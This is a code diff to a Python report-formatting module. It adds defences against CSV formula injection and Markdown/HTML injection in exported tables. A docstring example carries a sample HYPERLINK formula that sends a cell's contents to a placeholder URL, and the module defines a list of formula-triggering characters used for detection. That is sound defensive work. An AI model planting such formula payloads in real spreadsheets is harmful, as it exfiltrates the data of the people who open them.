@@ -5,6 +5,13 @@ km², i.e. 100 m²; percentages to 2 decimals; distances to 0.1 m); CSV and JSON
 keep full precision. Missing figures print as ``-`` (text) or ``null`` (JSON).
 Files are written through :mod:`spatial.io.atomic`, never half-written.
 
+Cells come from the planner's files and may be hostile. CSV and Markdown
+cells whose text a spreadsheet would run as a formula get a leading ``'``
+(:func:`spreadsheet_safe`, OWASP's CSV-injection advice); numbers stay numbers
+and JSON keeps the text exact. Terminal tables and Markdown show control
+characters as escapes (:func:`~spatial.errors.printable`), and Markdown cells
+cannot open HTML tags or break out of their column.
+
 Examples
 --------
 >>> import pandas as pd
@@ -32,11 +39,12 @@ from typing import Any
 import numpy as np
 import pandas as pd
 
-from spatial.errors import UsageError
+from spatial.errors import UsageError, printable
 from spatial.io.atomic import write_text_atomic
 
 __all__ = [
     "FORMATS",
+    "FORMULA_STARTS",
     "emit",
     "format_csv",
     "format_frame",
@@ -45,10 +53,32 @@ __all__ = [
     "format_markdown",
     "format_table",
     "records",
+    "spreadsheet_safe",
 ]
 
 #: The output formats every command offers.
 FORMATS: tuple[str, ...] = ("table", "csv", "json", "markdown")
+#: First characters that make Excel, WPS or LibreOffice read a cell as a formula
+#: (OWASP, "CSV Injection": = + - @, tab and carriage return).
+FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
+_MARKDOWN_ESCAPES = str.maketrans({"|": "\\|", "<": "\\<", ">": "\\>"})
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    r"""Return a text cell a spreadsheet would run as a formula with a leading ``'``.
+
+    Anything that is not a string (numbers, missing values) is returned unchanged.
+
+    Examples
+    --------
+    >>> spreadsheet_safe('=HYPERLINK("http://x?d="&A2,"click")')
+    '\'=HYPERLINK("http://x?d="&A2,"click")'
+    >>> spreadsheet_safe("-2+3"), spreadsheet_safe(-2.5), spreadsheet_safe("zone-kcxz")
+    ("'-2+3", -2.5, 'zone-kcxz')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def _display_width(text: str) -> int:
@@ -86,10 +116,10 @@ def _is_numeric(frame: pd.DataFrame, column: str) -> bool:
 
 
 def format_table(frame: pd.DataFrame) -> str:
-    """Render ``frame`` as an aligned plain-text table (numbers right-aligned)."""
-    columns = [str(c) for c in frame.columns]
+    """Render ``frame`` as an aligned plain-text table (numbers right-aligned, text printable)."""
+    columns = [printable(c) for c in frame.columns]
     cells = [
-        [_cell(v, c) for v, c in zip(row, columns, strict=True)]
+        [printable(_cell(v, c)) for v, c in zip(row, columns, strict=True)]
         for row in frame.itertuples(index=False)
     ]
     widths = [
@@ -108,25 +138,62 @@ def format_table(frame: pd.DataFrame) -> str:
     return "\n".join(lines)
 
 
+def _markdown_cell(value: Any, column: str) -> str:
+    text = _cell(value, column)
+    if isinstance(value, str):
+        text = spreadsheet_safe(text)
+    return printable(text).translate(_MARKDOWN_ESCAPES)
+
+
 def format_markdown(frame: pd.DataFrame) -> str:
-    """Render ``frame`` as a GitHub-flavoured Markdown table (``|`` in cells escaped)."""
+    r"""Render ``frame`` as a GitHub-flavoured Markdown table.
+
+    ``|``, ``<`` and ``>`` in cells are backslash-escaped (shown as typed, never
+    a column break or an HTML tag), control characters are shown as escapes
+    and formula-like text gets a leading ``'``.
+
+    Examples
+    --------
+    >>> print(format_markdown(pd.DataFrame({"id": ["=1+1", "<b>|x"], "n": [-1.0, 2.0]})))
+    | id | n |
+    |---|---:|
+    | '=1+1 | -1.0000 |
+    | \<b\>\|x | 2.0000 |
+    """
     columns = [str(c) for c in frame.columns]
     align = ["---:" if _is_numeric(frame, c) else "---" for c in frame.columns]
 
     def line(values: list[str]) -> str:
-        return "| " + " | ".join(v.replace("|", "\\|") for v in values) + " |"
+        return "| " + " | ".join(values) + " |"
 
     rows = [
-        line([_cell(v, c) for v, c in zip(row, columns, strict=True)])
+        line([_markdown_cell(v, c) for v, c in zip(row, columns, strict=True)])
         for row in frame.itertuples(index=False)
     ]
-    return "\n".join([line(columns), "|" + "|".join(align) + "|", *rows])
+    heading = line([_markdown_cell(c, "") for c in frame.columns])
+    return "\n".join([heading, "|" + "|".join(align) + "|", *rows])
 
 
 def format_csv(frame: pd.DataFrame) -> str:
-    """Render ``frame`` as CSV (UTF-8 text, full precision, empty cells for missing values)."""
+    r"""Render ``frame`` as CSV (UTF-8 text, full precision, empty cells for missing values).
+
+    Text cells and headings a spreadsheet would run as a formula get a leading
+    ``'`` (:func:`spreadsheet_safe`); numbers are written as numbers. Rows end
+    in CRLF (RFC 4180), so a cell holding a lone CR or LF is quoted: a
+    spreadsheet cannot split it into a new row whose cell is a formula.
+
+    Examples
+    --------
+    >>> format_csv(pd.DataFrame({"id": ["@SUM(A1)", "x\r=1"], "d": [-2.5, 1]}))
+    'id,d\r\n\'@SUM(A1),-2.5\r\n"x\r=1",1.0\r\n'
+    """
+    safe = frame.copy(deep=False)
+    safe.columns = [spreadsheet_safe(str(c)) for c in frame.columns]
+    for position, column in enumerate(frame.columns):
+        if not _is_numeric(frame, column) and not pd.api.types.is_bool_dtype(frame[column]):
+            safe.isetitem(position, frame[column].map(spreadsheet_safe).to_numpy())
     buffer = io.StringIO()
-    frame.to_csv(buffer, index=False, lineterminator="\n")
+    safe.to_csv(buffer, index=False, lineterminator="\r\n")
     return buffer.getvalue()
 
 
